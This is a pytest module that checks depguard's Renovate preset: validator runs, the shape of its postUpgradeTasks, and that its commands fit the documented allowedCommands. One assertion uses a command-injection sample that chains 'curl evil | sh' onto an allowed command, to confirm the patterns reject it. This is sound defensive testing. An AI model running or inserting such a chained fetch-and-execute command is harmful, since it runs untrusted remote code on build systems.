"""depguard's Renovate preset (``manifests/renovate/preset.json5``) and the project's own
``renovate.json5``, which documents it (issue #6).

The real ``renovate-config-validator`` (opt-in tier, ``DEPGUARD_RENOVATE_VALIDATOR``) checks
both files with ``--strict``: the preset as a repository config and as a preset (a
``package.json`` ``renovate-config`` entry, the validator's only preset mode), and the
``allowedCommands`` the preset tells self-hosted Renovate to set as a global config. The other
tests need no Node: the commands the preset runs exist, match those ``allowedCommands``, and
do their job on a copy of the shipped example once Renovate has filled in
``{{packageFileDir}}``.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import json5
import pytest

from tests.support.cli import run_cli
from tests.support.renovate_validator import validate, validator_path

ROOT = Path(__file__).resolve().parents[2]
PRESET = ROOT / "manifests" / "renovate" / "preset.json5"
OWN = ROOT / "renovate.json5"
EXAMPLE = ROOT / "manifests" / "examples" / "acme-infra"
PRESET_REF = "github>OWNER/depguard//manifests/renovate/preset.json5"


def _preset() -> dict[str, Any]:
    data: dict[str, Any] = json5.loads(PRESET.read_text(encoding="utf-8"))
    return data


def _tasks() -> list[tuple[dict[str, Any], dict[str, Any]]]:
    return [
        (rule, rule["postUpgradeTasks"])
        for rule in _preset()["packageRules"]
        if "postUpgradeTasks" in rule
    ]


def _documented_allowed_commands() -> list[str]:
    """The ``allowedCommands`` list the preset's comments tell self-hosted Renovate to set."""
    text = PRESET.read_text(encoding="utf-8")
    comments = "\n".join(
        line.strip().removeprefix("//")
        for line in text.splitlines()
        if line.strip().startswith("//")
    )
    m = re.search(r"allowedCommands: (\[.*?\]),", comments, re.DOTALL)
    assert m is not None, "the preset documents allowedCommands"
    patterns: list[str] = json5.loads(m.group(1))
    return patterns


def _ran(result: subprocess.CompletedProcess[str]) -> str:
    return f"exit {result.returncode}\n{result.stdout}\n{result.stderr}"


# --- the real validator -------------------------------------------------------------------


@pytest.mark.renovate
def test_preset_validates_as_repository_config_and_as_preset(tmp_path: Path) -> None:
    validator = validator_path()
    directory = tmp_path / "repo"
    directory.mkdir()
    # The validator checks presets only as package.json "renovate-config" entries (JSON).
    (directory / "package.json").write_text(
        json.dumps({"name": "preset", "renovate-config": {"default": _preset()}})
    )
    result = validate(validator, PRESET.read_text(encoding="utf-8"), directory)
    assert result.returncode == 0, _ran(result)
    output = result.stdout + result.stderr
    assert "Validating renovate.json5" in output
    assert "Validating package.json > renovate-config" in output
    assert "Config validated successfully" in output


@pytest.mark.renovate
def test_own_renovate_config_validates(tmp_path: Path) -> None:
    result = validate(validator_path(), OWN.read_text(encoding="utf-8"), tmp_path / "own")
    assert result.returncode == 0, _ran(result)


@pytest.mark.renovate
def test_documented_allowed_commands_are_valid_global_config(tmp_path: Path) -> None:
    """A file argument is validated as *global* (self-hosted) config, where allowedCommands
    lives; the old name allowedPostUpgradeCommands would need a migration (--strict fails)."""
    validator = validator_path()
    config = tmp_path / "config.json5"
    config.write_text(json.dumps({"allowedCommands": _documented_allowed_commands()}))
    result = subprocess.run(
        [str(validator), "--strict", str(config)],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, _ran(result)
    old = tmp_path / "old.json5"
    old.write_text(json.dumps({"allowedPostUpgradeCommands": _documented_allowed_commands()}))
    migrated = subprocess.run(
        [str(validator), "--strict", str(old)],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert migrated.returncode == 1 and "migration" in migrated.stdout + migrated.stderr


# --- the preset's contents ------------------------------------------------------------------


def test_preset_shape() -> None:
    preset = _preset()
    assert preset["minimumReleaseAge"] == "3 days"
    assert preset["internalChecksFilter"] == "strict"
    assert "helpers:pinGitHubActionDigests" in preset["extends"]
    tasks = _tasks()
    assert [t["commands"] for _, t in tasks] == [
        ["depguard lock ./{{packageFileDir}}"],
        ["depguard checksums update ./{{packageFileDir}}"],
        ["depguard checksums update ./{{packageFileDir}}/.."],
    ]
    for rule, task in tasks:
        assert task["executionMode"] == "update"  # {{packageFileDir}} is one updated file's
        assert rule["description"].startswith("depguard: ")
    lock_rule, lock_task = tasks[0]
    assert lock_rule["matchManagers"] == ["terraform"]
    assert lock_rule["matchDepTypes"] == ["provider", "required_provider"]
    assert lock_task["fileFilters"] == ["**/.terraform.lock.hcl"]
    for _, task in tasks[1:]:
        assert task["fileFilters"] == ["**/aqua-checksums.json", "**/.aqua-checksums.json"]


def test_every_command_is_allowed_by_the_documented_allowed_commands() -> None:
    patterns = _documented_allowed_commands()
    # Renovate matches allowedCommands against the command before templating.
    for _, task in _tasks():
        for command in task["commands"]:
            assert any(re.search(p, command) for p in patterns), command
    assert not any(re.search(p, "depguard lock ./x; curl evil | sh") for p in patterns)


def test_commands_are_real_depguard_commands() -> None:
    for words in (["lock", "--help"], ["checksums", "update", "--help"]):
        result = run_cli(*words)
        assert result.code == 0, result.err
        assert "PATH" in result.out


@pytest.fixture
def example(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the example as its own repository, as Renovate's working directory."""
    root = tmp_path / "acme-infra"
    shutil.copytree(EXAMPLE, root)
    (root / ".git").mkdir()
    monkeypatch.chdir(root)
    return root


def _renovate_runs(command: str, package_file_dir: str, *extra: str) -> Any:
    """Fill in the template as Renovate does, then run the command in-process."""
    words = shlex.split(command.replace("{{packageFileDir}}", package_file_dir))
    assert words[0] == "depguard"
    return run_cli("--offline", *words[1:], *extra)


@pytest.mark.parametrize("package_file_dir", ["envs/dev/network", ""])
def test_lock_command_on_the_example(example: Path, package_file_dir: str) -> None:
    (command,) = _tasks()[0][1]["commands"]
    result = _renovate_runs(
        command, package_file_dir, "--check", "--provider", "tf.acme.example/platform/inventory"
    )
    assert result.code == 0, result.out + result.err
    assert "envs/dev/network/.terraform.lock.hcl" in result.out
    assert ("envs/stg/network" in result.out) == (package_file_dir == "")  # "" is the root


@pytest.mark.parametrize(
    ("rule", "package_file_dir"),
    [(1, "aqua"), (2, "aqua/imports")],  # aqua/aqua.yaml; aqua/imports/supply-chain.yaml
)
def test_checksums_commands_on_the_example(example: Path, rule: int, package_file_dir: str) -> None:
    (command,) = _tasks()[rule][1]["commands"]
    result = _renovate_runs(command, package_file_dir, "--check")
    assert result.code == 0, result.out + result.err
    assert "aqua-checksums.json: up to date" in result.out


def test_an_import_directory_alone_holds_no_aqua_config(example: Path) -> None:
    """Why the imports rule goes one directory up: from aqua/imports the command finds no
    config and would silently do nothing."""
    result = run_cli("--offline", "checksums", "update", "./aqua/imports", "--check")
    assert result.code == 0 and "aqua-checksums.json" not in result.out


# --- the project's own config documents the preset ---------------------------------------------


def test_own_config_documents_the_preset() -> None:
    text = OWN.read_text(encoding="utf-8")
    own = json5.loads(text)
    assert own["minimumReleaseAge"] == _preset()["minimumReleaseAge"]
    assert PRESET_REF in text and PRESET.is_file()
    for needle in (
        "depguard lock ./{{packageFileDir}}",
        "depguard checksums update ./{{packageFileDir}}",
        "executionMode: 'update'",
        "allowedCommands",
        "allowedPostUpgradeCommands",
        "Mend app runs no postUpgradeTasks",
        "depguard rollout renovate-rules --write",
        "depguard rollout lint-renovate",
    ):
        assert needle in text, needle
    assert PRESET_REF in PRESET.read_text(encoding="utf-8")
